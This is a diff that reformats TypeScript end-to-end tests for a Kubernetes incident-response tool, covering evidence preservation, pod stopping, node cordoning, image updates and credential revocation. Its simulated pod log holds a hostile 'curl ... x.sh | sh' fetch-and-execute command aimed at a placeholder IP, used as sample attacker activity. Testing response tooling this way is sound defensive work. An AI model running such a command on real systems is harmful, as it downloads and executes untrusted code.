@@ -16,7 +16,12 @@ test('preserve pod evidence: spec, status, events, owner chain and each containe
   const c = w.addCluster('prod');
   const [pod] = c.addDeployment({ namespace: 'web', name: 'shop', replicas: 1 });
   c.logs.set(`web/${pod}/app`, 'GET /admin 200\ncurl http://203.0.113.9/x.sh | sh\n');
-  c.events.push({ metadata: { namespace: 'web', name: 'ev1' }, involvedObject: { kind: 'Pod', name: pod }, reason: 'Started', message: 'Started container app' });
+  c.events.push({
+    metadata: { namespace: 'web', name: 'ev1' },
+    involvedObject: { kind: 'Pod', name: pod },
+    reason: 'Started',
+    message: 'Started container app',
+  });
   const { event, findingId } = eksFindingEvent({ aws: w.aws, cluster: 'prod', namespace: 'web', pod: pod! });
   await publishFinding(w.h, event);
   await runAction(w.h, { findingId, action: 'preserve_pod_evidence', user: RESPONDER });
@@ -25,7 +30,10 @@ test('preserve pod evidence: spec, status, events, owner chain and each containe
   const evidence = JSON.parse(file!.content ?? '{}');
   assert.equal(evidence.pod.metadata.name, pod);
   assert.equal(evidence.logs.app, 'GET /admin 200\ncurl http://203.0.113.9/x.sh | sh\n');
-  assert.deepEqual(evidence.ownerChain.map((o: { kind: string; name: string }) => `${o.kind}/${o.name}`), ['ReplicaSet/shop-rs', 'Deployment/shop']);
+  assert.deepEqual(
+    evidence.ownerChain.map((o: { kind: string; name: string }) => `${o.kind}/${o.name}`),
+    ['ReplicaSet/shop-rs', 'Deployment/shop'],
+  );
   assert.equal(evidence.events[0].reason, 'Started');
   const log = w.k8s.calls.find((x) => x.path.endsWith('/log'))!;
   assert.deepEqual([log.query.get('container'), log.query.get('tailLines'), log.query.get('limitBytes')], ['app', '500', String(256 * 1024)]);
@@ -52,7 +60,17 @@ test('stop pod owned by a Deployment: the plan says it will be recreated; delete
   await publishFinding(w.h, second.event);
   await runAction(w.h, { findingId: second.findingId, action: 'stop_pod', user: RESPONDER, reason: 'miner', selects: { mode: 'scale' } });
   const patch = w.k8s.calls.find((x) => x.method === 'PATCH')!;
-  assert.deepEqual([patch.path, patch.contentType, patch.body], ['/apis/apps/v1/namespaces/web/deployments/shop', 'application/json-patch+json', [{ op: 'test', path: '/spec/replicas', value: 2 }, { op: 'replace', path: '/spec/replicas', value: 0 }]]);
+  assert.deepEqual(
+    [patch.path, patch.contentType, patch.body],
+    [
+      '/apis/apps/v1/namespaces/web/deployments/shop',
+      'application/json-patch+json',
+      [
+        { op: 'test', path: '/spec/replicas', value: 2 },
+        { op: 'replace', path: '/spec/replicas', value: 0 },
+      ],
+    ],
+  );
   assert.equal(c.podsOf('web', 'shop').length, 0);
   assert.match(await cardText(w.h, second.findingId), /Workload scaled to 0/);
 });
@@ -67,7 +85,10 @@ test('stop a bare pod: simply deleted', async (t) => {
   const { modal } = await runAction(w.h, { findingId, action: 'stop_pod', user: RESPONDER, reason: 'shell' });
   assert.match(modal.text, /Delete bare pod web\/debug-shell \(cluster prod\) \(no controller owns it/);
   assert.equal(c.pods.size, 0);
-  assert.deepEqual(w.k8s.calls.filter((x) => x.method === 'DELETE').map((x) => x.path), ['/api/v1/namespaces/web/pods/debug-shell']);
+  assert.deepEqual(
+    w.k8s.calls.filter((x) => x.method === 'DELETE').map((x) => x.path),
+    ['/api/v1/namespaces/web/pods/debug-shell'],
+  );
 });
 
 test('cordon node: no drain, labelled, names its EC2 instance; running it again uncordons', async (t) => {
@@ -112,10 +133,13 @@ test('find pods running the image: every cluster of the account, matched on imag
   assert.match(thread, /staging: 1 pod\(s\) — qa\/shop-copy/);
   assert.doesNotMatch(thread, /same-tag-other-digest/);
   const lists = w.k8s.calls.filter((x) => x.path === '/api/v1/pods');
-  assert.deepEqual(lists.map((x) => [x.cluster, x.query.get('limit')]).sort(), [['prod', '500'], ['staging', '500']]);
+  assert.deepEqual(lists.map((x) => [x.cluster, x.query.get('limit')]).sort(), [
+    ['prod', '500'],
+    ['staging', '500'],
+  ]);
 });
 
-test('update a Deployment\'s image: JSON patch testing the old image and setting the clean one', async (t) => {
+test("update a Deployment's image: JSON patch testing the old image and setting the clean one", async (t) => {
   const w = await startEksE2eWorld();
   t.after(() => w.close());
   const c = w.addCluster('prod');
@@ -124,7 +148,10 @@ test('update a Deployment\'s image: JSON patch testing the old image and setting
   await publishFinding(w.h, event);
   await runAction(w.h, { findingId, action: 'update_workload_image', user: RESPONDER, reason: 'rebuilt', inputs: { image: 'shop:1.0.1' } });
   const patch = w.k8s.calls.find((x) => x.method === 'PATCH')!;
-  assert.deepEqual(patch.body, [{ op: 'test', path: '/spec/template/spec/containers/0/image', value: 'shop:1' }, { op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'shop:1.0.1' }]);
+  assert.deepEqual(patch.body, [
+    { op: 'test', path: '/spec/template/spec/containers/0/image', value: 'shop:1' },
+    { op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'shop:1.0.1' },
+  ]);
   assert.equal(c.workloads.get('deployments/web/shop').spec.template.spec.containers[0].image, 'shop:1.0.1');
   assert.match(await threadText(w.h, findingId), /container app: shop:1 → shop:1\.0\.1/);
 });
@@ -135,7 +162,13 @@ test('revoke pod credentials: the IRSA role and the Pod Identity role are found;
   const c = w.addCluster('prod');
   c.addPod({ namespace: 'web', name: 'p', serviceAccount: 'shop' });
   c.addServiceAccount('web', 'shop', { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::123456789012:role/shop-irsa' });
-  w.aws.eks.podIdentities.push({ cluster: 'prod', namespace: 'web', serviceAccount: 'shop', roleArn: 'arn:aws:iam::123456789012:role/shop-pod-identity', associationId: 'a-0123456789abcdef0' });
+  w.aws.eks.podIdentities.push({
+    cluster: 'prod',
+    namespace: 'web',
+    serviceAccount: 'shop',
+    roleArn: 'arn:aws:iam::123456789012:role/shop-pod-identity',
+    associationId: 'a-0123456789abcdef0',
+  });
   const { event, findingId } = eksFindingEvent({ aws: w.aws, cluster: 'prod', namespace: 'web', pod: 'p', serviceAccount: 'shop' });
   await publishFinding(w.h, event);
   const { modal } = await runAction(w.h, { findingId, action: 'revoke_pod_credentials', user: RESPONDER });
